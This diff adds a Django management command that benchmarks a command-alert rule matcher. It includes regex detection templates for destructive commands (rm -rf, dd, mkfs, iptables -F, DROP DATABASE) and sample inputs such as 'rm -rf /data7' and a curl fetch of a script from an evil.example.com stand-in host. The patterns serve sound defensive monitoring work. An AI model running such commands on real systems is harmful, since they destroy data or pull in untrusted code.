@@ -0,0 +1,99 @@
+import json
+import random
+import time
+from types import SimpleNamespace
+from django.core.management.base import BaseCommand
+from apps.alert_utils.alert_rule_cache import CompiledRule
+from apps.alert_utils.rule_matcher import RuleMatcher
+
+# 模糊匹配规则的模板，{n} 替换为规则序号
+FUZZY_TEMPLATES = [
+    r'rm\s+-[a-zA-Z]*r[a-zA-Z]*\s+/data{n}\b',
+    r'^shutdown\s.*host{n}',
+    r'dd\s+if=.*of=/dev/sd{n}',
+    r'chmod\s+(777|-R\s+777)\s+/srv/app{n}',
+    r'(curl|wget)\s.*evil{n}\.example\.com',
+    r'mkfs\.\w+\s+/dev/vd{n}',
+    r'(?i)drop\s+database\s+db{n}',
+    r'iptables\s+-F.*chain{n}',
+]
+
+# 日常命令，绝大多数不触发告警
+COMMANDS = [
+    'ls -la',
+    'cd /var/log/nginx',
+    'tail -n 200 -f /var/log/nginx/access.log | grep -v healthcheck | awk \'{print $9}\' | sort | uniq -c',
+    'docker ps --format "{{.Names}}\\t{{.Status}}"',
+    'systemctl status nginx',
+    'vim /etc/nginx/conf.d/default.conf',
+    'kubectl get pods -n production -o wide | grep -v Running',
+    'rm -rf /data7',
+    'curl -s https://evil3.example.com/x.sh',
+    'reboot5',
+]
+
+
+def build_rules(count, seed=1, action='alert'):
+    """生成 count 条规则，一半精确匹配，一半模糊匹配"""
+    rng = random.Random(seed)
+    rules = []
+    for n in range(count):
+        if n % 2:
+            command_rule = [template.format(n=n) for template in rng.sample(FUZZY_TEMPLATES, 2)]
+            match_type = 'fuzzy'
+        else:
+            command_rule = [f'reboot{n}', f'halt{n}', f'init 0 # {n}']
+            match_type = 'exact'
+        alert = SimpleNamespace(id=n, name=f'rule{n}', match_type=match_type, command_rule=json.dumps(command_rule),
+                                suppress_window=0, action=action)
+        rules.append(CompiledRule(alert))
+    return rules
+
+
+def match_sequential(rules, command):
+    """逐条规则、逐个正则匹配，作为对照"""
+    matched = []
+    for rule in rules:
+        if rule.match_type == 'exact':
+            if command in rule.commands:
+                matched.append(rule)
+        elif any(pattern.search(command) for pattern in rule.patterns):
+            matched.append(rule)
+    return matched
+
+
+class Command(BaseCommand):
+    help = '对比命令告警规则匹配器与逐条匹配的耗时'
+
+    def add_arguments(self, parser):
+        parser.add_argument('--rules', default='10,100,1000,10000', help='规则数量，逗号分隔')
+        parser.add_argument('--rounds', type=int, default=200, help='每条命令的匹配次数')
+
+    def handle(self, *args, **options):
+        self.stdout.write(f"{'规则数':>8} {'构建(ms)':>10} {'逐条(us)':>10} {'匹配器(us)':>12} {'加速':>8}")
+        for count in (int(value) for value in options['rules'].split(',')):
+            rules = build_rules(count)
+            started = time.perf_counter()
+            matcher = RuleMatcher(rules)
+            build_ms = (time.perf_counter() - started) * 1000
+
+            for command in COMMANDS:
+                expected = [rule.id for rule in match_sequential(rules, command)]
+                actual = [rule.id for rule in matcher.match(command)[0]]
+                if expected != actual:
+                    raise AssertionError(f'匹配结果不一致: {command}: {expected} != {actual}')
+
+            rounds = max(1, options['rounds'] * 100 // max(count, 100))
+            sequential_us = self.measure(lambda command: match_sequential(rules, command), rounds)
+            matcher_us = self.measure(matcher.match, options['rounds'])
+            self.stdout.write(f'{count:>8} {build_ms:>10.1f} {sequential_us:>10.1f} {matcher_us:>12.1f} '
+                              f'{sequential_us / matcher_us:>7.1f}x')
+
+    @staticmethod
+    def measure(match, rounds):
+        """返回每条命令的平均匹配耗时(微秒)"""
+        started = time.perf_counter()
+        for _ in range(rounds):
+            for command in COMMANDS:
+                match(command)
+        return (time.perf_counter() - started) / (rounds * len(COMMANDS)) * 1e6